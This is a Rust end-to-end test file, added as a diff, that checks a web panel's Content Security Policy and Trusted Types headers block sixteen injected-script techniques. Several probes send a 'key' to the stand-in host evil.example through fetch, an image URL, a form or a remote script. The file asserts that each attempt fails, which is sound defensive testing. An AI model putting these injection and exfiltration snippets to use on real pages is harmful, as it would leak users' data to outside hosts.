@@ -1,0 +1,193 @@
+//! What a script injected into the page would try. Each attempt is made from inside the running panel, under the
+//! headers of a release, and has to fail by the policy and not by luck.
+
+use e2e::{Mishap, Page, PlainHost, page_test, panel_test};
+
+/// A name for the message, the directives that may refuse it, the attempt, and what it returns when it failed.
+/// Where two directives are named, both forbid it and the browser reports the one that it looks at first.
+struct Probe {
+    name: &'static str,
+    by: &'static [&'static str],
+    attempt: &'static str,
+    failed: &'static str,
+}
+
+const SCRIPT: &[&str] = &["require-trusted-types-for", "script-src-elem"];
+const HANDLER: &[&str] = &["require-trusted-types-for", "script-src-attr"];
+const CODE: &[&str] = &["require-trusted-types-for", "script-src"];
+const MARKUP: &[&str] = &["require-trusted-types-for"];
+
+/// Waits for an event that follows the attempt, whichever comes; without one the answer is "nothing happened".
+const PROBES: [Probe; 16] = [
+    Probe {
+        name: "an inline script",
+        by: SCRIPT,
+        attempt: "const it = document.createElement('script'); it.append(document.createTextNode('window.ran = 1')); \
+                  document.body.append(it); it.remove(); return String(window.ran);",
+        failed: "undefined",
+    },
+    Probe {
+        name: "an onerror attribute",
+        by: HANDLER,
+        attempt: "const it = document.createElement('img'); it.setAttribute('onerror', 'window.ran = 1'); \
+                  it.dispatchEvent(new Event('error')); return String(window.ran);",
+        failed: "TypeError",
+    },
+    Probe {
+        name: "eval",
+        by: CODE,
+        attempt: "return String((0, eval)('1 + 1'));",
+        failed: "EvalError",
+    },
+    Probe {
+        name: "new Function",
+        by: CODE,
+        attempt: "return String(new Function('return 2')());",
+        failed: "EvalError",
+    },
+    Probe {
+        name: "markup from a string",
+        by: MARKUP,
+        attempt: "document.createElement('div').innerHTML = '<b>x</b>'; return 'set';",
+        failed: "TypeError",
+    },
+    Probe {
+        name: "a policy of its own for Trusted Types",
+        by: &["trusted-types"],
+        attempt: "trustedTypes.createPolicy('default', { createHTML: (text) => text }); return 'made';",
+        failed: "TypeError",
+    },
+    Probe {
+        name: "a style attribute",
+        by: &["style-src-attr"],
+        attempt: "const it = document.createElement('p'); it.setAttribute('style', 'color: rgb(1, 2, 3)'); \
+                  document.body.append(it); const color = getComputedStyle(it).color; it.remove(); return color === 'rgb(1, 2, 3)' ? 'styled' : 'plain';",
+        failed: "plain",
+    },
+    Probe {
+        name: "a request to another host",
+        by: &["connect-src"],
+        attempt: "await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'key' }); return 'sent';",
+        failed: "TypeError",
+    },
+    // The page's own policy allows it, for hosts that send no headers; the header does not.
+    Probe {
+        name: "a request to another port of this machine",
+        by: &["connect-src"],
+        attempt: "await fetch('http://127.0.0.1:9/', { mode: 'no-cors' }); return 'sent';",
+        failed: "TypeError",
+    },
+    Probe {
+        name: "a frame in the panel",
+        by: &["frame-src"],
+        attempt: "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it); \
+                  await new Promise((done) => it.addEventListener('load', done)); \
+                  let inside = 'another page'; try { inside = it.contentDocument.URL; } catch {} it.remove(); return inside;",
+        failed: "another page",
+    },
+    Probe {
+        name: "a form sent elsewhere",
+        by: &["form-action"],
+        attempt: "const it = document.createElement('form'); it.method = 'post'; it.action = 'https://evil.example/'; \
+                  document.body.append(it); it.submit(); it.remove(); return 'here';",
+        failed: "here",
+    },
+    Probe {
+        name: "another base for links",
+        by: &["base-uri"],
+        attempt: "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it); \
+                  const base = document.baseURI; return base.startsWith(location.origin) ? 'unchanged' : base;",
+        failed: "unchanged",
+    },
+    Probe {
+        name: "an image of another host",
+        by: &["img-src"],
+        attempt: "const it = new Image(); it.src = 'https://evil.example/x.png?key'; \
+                  return await new Promise((done) => { it.onload = () => done('loaded'); it.onerror = () => done('failed'); });",
+        failed: "failed",
+    },
+    Probe {
+        name: "a font of another host",
+        by: &["font-src"],
+        attempt: "await new FontFace('x', 'url(https://evil.example/x.woff2)').load(); return 'loaded';",
+        failed: "NetworkError",
+    },
+    Probe {
+        name: "a script of another host",
+        by: SCRIPT,
+        attempt: "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it); return 'asked';",
+        failed: "TypeError",
+    },
+    Probe {
+        name: "a worker from a string",
+        by: &["worker-src", "require-trusted-types-for"],
+        attempt: "new Worker(URL.createObjectURL(new Blob(['1']))); return 'started';",
+        failed: "TypeError",
+    },
+];
+
+async fn attempt(page: &Page, probe: &Probe) {
+    let outcome = page.inside(probe.attempt).await;
+    let outcome = outcome.as_str().unwrap_or_default();
+    assert!(
+        outcome.starts_with(probe.failed),
+        "{}: {outcome}",
+        probe.name
+    );
+    page.refused(probe.by).await;
+}
+
+#[test]
+fn what_an_injected_script_would_try_is_refused() {
+    panel_test(async |panel| {
+        panel.sign_in_to_demo().await;
+        for probe in &PROBES {
+            attempt(panel, probe).await;
+        }
+        panel.button("Refresh").click().await;
+        panel.shows("36 addresses, all loaded").await;
+    });
+}
+
+/// The policy of a release without Trusted Types, which would otherwise refuse the same things first.
+const WITHOUT_TYPES: &str = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
+    img-src 'self'; connect-src 'self'; manifest-src 'self'; frame-ancestors 'none'";
+
+#[test]
+fn in_a_browser_without_trusted_types_the_policy_refuses_scripts_all_the_same() {
+    page_test(async |page| {
+        let host = PlainHost::start().await;
+        host.spoil("index.html", Mishap::Policy(WITHOUT_TYPES));
+        page.visit(&host.url()).await;
+        page.heading("Sign in").here().await;
+        for (name, by, failed) in [
+            ("an inline script", "script-src-elem", "undefined"),
+            ("an onerror attribute", "script-src-attr", "undefined"),
+            ("eval", "script-src", "EvalError"),
+            ("new Function", "script-src", "EvalError"),
+            ("a script of another host", "script-src-elem", "asked"),
+        ] {
+            let probe = PROBES.iter().find(|probe| probe.name == name);
+            let attempt = probe.expect("a probe of this name").attempt;
+            let outcome = page.inside(attempt).await.to_string();
+            assert!(outcome.contains(failed), "{name}: {outcome}");
+            page.refused(&[by]).await;
+        }
+    });
+}
+
+#[test]
+fn the_headers_keep_the_panel_out_of_frames() {
+    panel_test(async |panel| {
+        panel.expect_script_error("frame-ancestors");
+        let host = PlainHost::start().await;
+        host.spoil("404.html", Mishap::Framing(panel.server.url()));
+        panel.visit(&format!("{}404.html", host.url())).await;
+        panel.enter_frame().await;
+        // The browser's own page in its place; the panel would say that it does not run there.
+        panel.lacks("Public IPs").await;
+        panel.lacks("does not run inside another page").await;
+        let inside = panel.inside("return document.URL;").await;
+        assert_eq!(inside, "chrome-error://chromewebdata/");
+    });
+}
